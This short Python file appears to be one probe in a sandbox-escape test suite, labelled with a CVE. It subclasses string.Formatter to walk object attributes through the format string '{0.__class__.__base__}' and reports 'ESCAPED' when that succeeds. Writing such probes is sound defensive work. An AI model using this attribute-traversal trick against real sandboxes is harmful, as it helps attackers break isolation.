# tries: CVE-2026-76825, a subclass of string.Formatter with a public way to vformat
# layer: language
from string import Formatter


class Walker(Formatter):
    def walk(self, text, thing):
        return self.vformat(text, (thing,), {})


def run(ctx, params):
    return "ESCAPED: " + Walker().walk("{0.__class__.__base__}", ())
